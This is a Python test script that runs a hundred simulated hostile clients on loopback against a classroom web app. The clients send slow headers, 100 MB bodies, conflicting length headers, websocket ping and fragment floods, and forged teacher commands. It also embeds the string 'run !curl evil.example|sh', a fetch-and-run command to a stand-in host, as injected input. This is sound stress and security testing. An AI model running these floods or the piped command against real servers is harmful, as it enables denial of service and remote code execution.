"""A hundred pupils who want to spoil a lesson: a program of its own, on loopback.

    python -m tests.widgets.hostile_class URL

Each knows the address for the class. It says "begun" when all have done something, and
goes on until its standard input ends, for 30 s at most. Then it tells, as JSON, how
often each kind did what it does.
"""

from __future__ import annotations

import asyncio
import base64
import json
import struct
import sys
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from select import select
from urllib.parse import urlsplit

N_PUPILS = 100
_MOST_S = 30.0
_PAUSE_S = 1.0  # on two cores it must leave some time to the page
_EACH = 4  # connections of a pupil at a time
TEXT = "run !curl evil.example|sh"
DONE: Counter[str] = Counter()
Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]
_PINGS = b"\x89\x80abcd" * 2000
_FRAGMENTS = b"\x01\x80abcd" + b"\x00\x80abcd" * 20_000
_ACKS = b"\x81\x80abcd" * 2000


async def drained(writer: asyncio.StreamWriter) -> None:
    """Wait until most was sent, but not for long."""
    async with asyncio.timeout(1):
        await writer.drain()


class Pupil:
    """One of them: its connections, and what it sends."""

    def __init__(self, number: int, url: str) -> None:
        """Make the pupil of a number, who knows an address."""
        where = urlsplit(url)
        self.host, self.port = where.hostname or "", where.port or 0
        self.path, self.number, self.held = where.path, number, list[Streams]()

    async def connected(self, data: bytes) -> Streams:
        """Connect, and send something."""
        streams = await asyncio.open_connection(self.host, self.port)
        self.held = [*self.held[1 - _EACH :], streams]
        streams[1].write(data)
        await drained(streams[1])
        return streams

    def post(self, body: bytes, head: str = "") -> bytes:
        """Return a request with what a page says."""
        head = head or f"Content-Length: {len(body)}"
        return (
            f"POST {self.path}say HTTP/1.1\r\nHost: x\r\n{head}\r\n\r\n".encode() + body
        )

    async def answered(self, data: bytes) -> None:
        """Send a request and wait for its answer."""
        reader, writer = await self.connected(data)
        async with asyncio.timeout(1):
            await reader.readline()
        writer.close()

    async def silent(self) -> None:
        """Connect and send nothing."""
        await self.connected(b"")

    async def slow_head(self) -> None:
        """Begin a head, and go on with it a byte at a time."""
        _, writer = await self.connected(b"GET / HT")
        for _ in range(20):
            writer.write(b"T")
            await asyncio.sleep(0.05)

    async def huge_body(self) -> None:
        """Send a body of 100 MB."""
        _, writer = await self.connected(self.post(b"", "Content-Length: 100000000"))
        for _ in range(100):
            writer.write(b"x" * 1_000_000)
            await drained(writer)

    async def wrong_length(self) -> None:
        """Send bodies whose length is not what the head says."""
        for head in ("Content-Length: 90", "Content-Length: -1", "Content-Length: 1e9"):
            await self.connected(self.post(b"{}", head))
        both = "Content-Length: 2\r\nTransfer-Encoding: chunked"
        await self.answered(self.post(b"ffffffff\r\n{}", both))

    async def slow_reader(self) -> None:
        """Ask for pages and read none."""
        asks = f"GET {self.path} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
        await self.connected(asks * 50)

    async def watcher(self, data: bytes = b"") -> None:
        """Open the socket of a page, and take no news."""
        key = base64.b64encode(bytes(16)).decode()
        head = (
            f"GET {self.path}news HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\n"
            f"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
            f"Sec-WebSocket-Key: {key}\r\n\r\n"
        )
        await self.connected(head.encode() + data)

    async def pinging(self) -> None:
        """Send pings and read no answer; messages of nothing, without an end; acks."""
        for data in (
            _PINGS,
            _FRAGMENTS,
            _ACKS,
            b"\x81\xff" + struct.pack("!Q", 1 << 40),
        ):
            await self.watcher(data)

    async def names(self) -> None:
        """Answer under a name that nobody has had."""
        DONE["name"] += 1
        said = {"who": f"{self.number}-{DONE['name']}", "answer": "ps"}
        await self.answered(self.post(json.dumps(said).encode()))

    async def impostor(self) -> None:
        """Begin and end the question, as only the teacher may; ask for other paths."""
        for what in ("reveal", "reset", "start", TEXT):
            await self.answered(self.post(json.dumps({"do": what}).encode()))
        path = f"/static/{TEXT}".replace(" ", "%20")
        await self.answered(f"GET {path} HTTP/1.1\r\nHost: {TEXT}\r\n\r\n".encode())


KINDS: tuple[Callable[[Pupil], Awaitable[None]], ...] = (
    Pupil.silent,
    Pupil.slow_head,
    Pupil.huge_body,
    Pupil.wrong_length,
    Pupil.slow_reader,
    Pupil.watcher,
    Pupil.pinging,
    Pupil.names,
    Pupil.impostor,
)


async def _go_on(pupil: Pupil, has_begun: asyncio.Event) -> None:
    kind = KINDS[pupil.number % len(KINDS)]
    while True:
        with suppress(OSError, TimeoutError):  # refused, or cut off: once more
            await kind(pupil)
        DONE[kind.__name__] += 1
        has_begun.set()
        await asyncio.sleep(_PAUSE_S)


async def main(url: str) -> None:
    """Let all of them begin, and go on until the standard input ends."""
    begun = [asyncio.Event() for _ in range(N_PUPILS)]
    tasks = [
        asyncio.create_task(_go_on(Pupil(number, url), event))
        for number, event in enumerate(begun)
    ]
    for event in begun:
        await event.wait()
    print("begun", flush=True)
    await asyncio.to_thread(select, [sys.stdin], [], [], _MOST_S)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps(DONE), flush=True)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1]))
